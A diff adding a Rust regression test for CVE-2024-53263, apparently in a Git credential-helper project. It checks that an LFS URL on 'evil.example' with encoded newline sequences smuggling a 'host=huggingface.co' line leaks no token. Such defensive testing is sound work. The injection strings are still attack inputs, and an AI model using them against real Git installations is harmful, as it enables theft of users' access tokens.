@@ -1,6 +1,7 @@
 //! Hosts that are not the Hub, however a repository names them, get nothing.
 
 use crate::hub::{File, Repository};
+use crate::rig::Git;
 use crate::scene::{ALICE, Scene};
 
 /// A repository of alice's that leads its cloner to another machine.
@@ -47,6 +48,27 @@ fn an_lfs_url_on_a_second_host_gets_no_token() {
         scene.clone("https://huggingface.co/acme/lure", "lure").failed();
         asked_in_vain(scene);
     });
+}
+
+#[test]
+#[ignore = "needs git-lfs; tests/run.sh installs it"]
+fn an_lfs_url_that_holds_lines_of_its_own_gets_no_token() {
+    // CVE-2024-53263
+    for end in [
+        "%0Ahost=huggingface.co/",
+        "%0D%0Ahost=huggingface.co/",
+        "/x%0Ahost=huggingface.co%0A",
+        "/%0Dhost=huggingface.co",
+    ] {
+        Scene::play(&Git::first(), None, |scene| {
+            let config = format!("[lfs]\n\turl = \"https://evil.example{end}\"\n");
+            lure(scene, &[File::Plain(".lfsconfig", config), File::Large("one.bin", vec![1; 1000])]);
+            scene.clone("https://huggingface.co/acme/lure", "lure").failed().hides(ALICE);
+            let visits = scene.hub.visits();
+            let shown = visits.iter().filter(|visit| visit.host != "huggingface.co").any(|visit| visit.shown.is_some());
+            assert!(!shown, "{end}: {visits:?}");
+        });
+    }
 }
 
 #[test]
